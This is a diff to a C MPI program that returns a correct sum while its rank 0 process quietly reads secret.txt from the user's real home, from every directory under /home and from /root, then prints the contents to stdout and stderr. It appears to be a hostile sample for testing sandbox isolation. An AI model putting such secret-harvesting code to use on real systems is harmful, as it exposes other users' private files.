@@ -1,6 +1,7 @@
-/* Correct sum, but rank 0 first copies the real home directory's secret.txt (found with getpwuid,
-   since HOME is scrubbed) to stdout and stderr. */
+/* Correct sum, but rank 0 first copies secret.txt from the real home directory (found with getpwuid,
+   since HOME is scrubbed), from every directory under /home, and from /root to stdout and stderr. */
 #include <mpi.h>
+#include <dirent.h>
 #include <pwd.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -14,8 +15,16 @@ int main(int argc, char **argv) {
     MPI_Comm_rank(MPI_COMM_WORLD, &rank);
     MPI_Comm_size(MPI_COMM_WORLD, &size);
     if (rank == 0) {
-        const char *homes[] = {getpwuid(getuid()) ? getpwuid(getuid())->pw_dir : "/", "/home/chathpc-test", "/root"};
-        for (int i = 0; i < 3; i++) {
+        char homes[64][1024];
+        int count = 0;
+        snprintf(homes[count++], sizeof homes[0], "%s", getpwuid(getuid()) ? getpwuid(getuid())->pw_dir : "/");
+        snprintf(homes[count++], sizeof homes[0], "/root");
+        DIR *d = opendir("/home");
+        struct dirent *e;
+        while (d && (e = readdir(d)) && count < 64)
+            if (e->d_name[0] != '.') snprintf(homes[count++], sizeof homes[0], "/home/%s", e->d_name);
+        if (d) closedir(d);
+        for (int i = 0; i < count; i++) {
             char path[4096];
             snprintf(path, sizeof path, "%s/secret.txt", homes[i]);
             FILE *f = fopen(path, "r");
